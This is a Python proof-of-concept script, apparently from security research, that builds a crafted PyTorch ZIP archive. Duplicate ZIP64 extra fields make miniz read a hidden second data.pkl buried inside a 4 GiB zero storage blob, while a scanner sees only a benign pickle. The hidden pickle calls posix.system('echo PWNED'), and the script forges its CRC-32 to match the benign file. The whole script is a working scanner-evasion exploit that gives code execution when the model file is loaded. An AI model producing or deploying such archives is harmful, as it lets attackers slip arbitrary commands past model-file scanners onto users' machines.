# Two ZIP64 extended-information fields (0x0001) in data.pkl's central extra.
# miniz (mz_zip_file_stat_internal) applies the FIRST 0x0001 field and `break`s;
# our zipEntry.zip64 applies every 0x0001 field whose target is still 0xffffffff.
# Central lho = 0xffffffff; field 1 says lho = 0xffffffff (a valid 64-bit value), field 2 says 0.
#   ours : lho = 0            -> benign data.pkl at the start (strictly decoded, clean)
#   miniz: lho = 0xffffffff   -> a second local header "archive/data.pkl" at 4 GiB - 1,
#          which lies inside the STORED data of archive/data/0 (a 4 GiB uint8 storage of zeros;
#          not .pkl and not starting with PROTO, so never scanned). File is sparse (~4.3 GB apparent).
# The payload is padded to the benign pickle's length and CRC-forged to the same CRC-32.
# usage: python3 z64_first_field.py OUT [print]
import sys, struct, zlib
out, mode = sys.argv[1], (sys.argv[2] if len(sys.argv) > 2 else '')
FAKE = 0xFFFFFFFF

def payload():
    fn = ('builtins', 'print') if mode == 'print' else ('posix', 'system')
    arg = 'PAYLOAD REACHED' if mode == 'print' else 'echo PWNED'
    return (b'\x80\x02}q\x00X\x01\x00\x00\x00xc' + fn[0].encode() + b'\n' + fn[1].encode() + b'\n'
            + b'X' + struct.pack('<I', len(arg)) + arg.encode() + b'\x85R' + b's.')

def u(s):
    s = s.encode(); return b'X' + struct.pack('<I', len(s)) + s
def long1(n):
    b = n.to_bytes((n.bit_length() + 8) // 8, 'little', signed=True); return b'\x8a' + bytes([len(b)]) + b

def benign(U):
    return (b'\x80\x02}' + u('w') + b'ctorch._utils\n_rebuild_tensor_v2\n('
            + b'(' + u('storage') + b'ctorch\nByteStorage\n' + u('0') + u('cpu') + long1(U) + b'tQ'
            + b'K\x00' + b'(' + long1(U) + b't' + b'(K\x01t' + b'\x89'
            + b'ccollections\nOrderedDict\n)R' + b'tR' + b's.')

# --- CRC-32 forging: 4 bytes appended so that crc32(data + 4 bytes) == target
POLY = 0xEDB88320
def forge(data, target):
    # standard: compute register after data, then solve 4 bytes via the reverse table
    tbl = [0]*256; rev = [0]*256
    for i in range(256):
        c = i
        for _ in range(8): c = (c >> 1) ^ POLY if c & 1 else c >> 1
        tbl[i] = c
    for i in range(256): rev[tbl[i] >> 24] = i
    reg = zlib.crc32(data) ^ 0xFFFFFFFF
    t = target ^ 0xFFFFFFFF
    # walk back 4 steps from the target register
    idx = []
    for _ in range(4):
        j = rev[t >> 24]; idx.append(j)
        t = ((t ^ tbl[j]) << 8) & 0xFFFFFFFF
    idx.reverse()
    outb = bytearray(); r = reg
    for j in idx:
        b = (r ^ j) & 0xFF; outb.append(b); r = (r >> 8) ^ tbl[j]
    res = data + bytes(outb)
    assert zlib.crc32(res) == target
    return res

def lh(name, n, crc):
    return struct.pack('<IHHHHHIIIHH', 0x04034b50, 20, 0, 0, 0x0001, 0x21, crc, n, n, len(name), 0) + name
def ch(name, n, lho, crc, extra=b''):
    return struct.pack('<IHHHHHHIIIHHHHHII', 0x02014b50, 45, 45, 0, 0, 0x0001, 0x21, crc, n, n,
                       len(name), len(extra), 0, 0, 0, 0, lho) + name + extra

PKL = b'archive/data.pkl'
U = 0xFFFFFFF0                       # uint8 storage numel = bytes (< 0xffffffff: no zip64 needed)
B = benign(U)
P = payload()
assert len(P) + 4 <= len(B)
P = forge(P + b'.' * (len(B) - len(P) - 4), zlib.crc32(B))   # bytes after STOP are never read by pickle
assert len(P) == len(B)
fake = lh(PKL, len(P), zlib.crc32(P)) + P            # what miniz reads at 0xffffffff

recs = [(PKL, B), (b'archive/version', b'3\n'), (b'archive/byteorder', b'little')]
f = open(out, 'wb'); off = 0; cd = b''
for name, data in recs:
    extra = b''
    lho = off
    if name == PKL:
        extra = struct.pack('<HHQ', 1, 8, FAKE) + struct.pack('<HHQ', 1, 8, off)
        lho = 0xFFFFFFFF
    f.write(lh(name, len(data), zlib.crc32(data)) + data)
    cd += ch(name, len(data), lho, zlib.crc32(data), extra)
    off += 30 + len(name) + len(data)
# the storage: zeros (sparse), with the fake local header + payload at FAKE
S = b'archive/data/0'
d0 = off + 30 + len(S)
assert d0 <= FAKE and FAKE + len(fake) <= d0 + U, (d0, U)
# CRC of storage: zeros, fake, zeros
pre, post = FAKE - d0, d0 + U - FAKE - len(fake)
crc = 0; Z = b'\0' * (1 << 24)
def zeros(crc, n):
    while n:
        k = min(n, len(Z)); crc = zlib.crc32(Z[:k] if k < len(Z) else Z, crc); n -= k
    return crc
crc = zeros(crc, pre); crc = zlib.crc32(fake, crc); crc = zeros(crc, post)
f.write(lh(S, U, crc)); cd += ch(S, U, off, crc)
f.seek(FAKE); f.write(fake)
cdoff = d0 + U
f.seek(cdoff); f.write(cd)
n = len(recs) + 1
e64 = cdoff + len(cd)
f.write(struct.pack('<IQHHIIQQQQ', 0x06064b50, 44, 45, 45, 0, 0, n, n, len(cd), cdoff))
f.write(struct.pack('<IIQI', 0x07064b50, 0, e64, 1))
f.write(struct.pack('<IHHHHIIH', 0x06054b50, 0, 0, n, n, len(cd), 0xFFFFFFFF, 0))
f.close()
print('wrote', out, 'size', cdoff + len(cd) + 56 + 20 + 22)
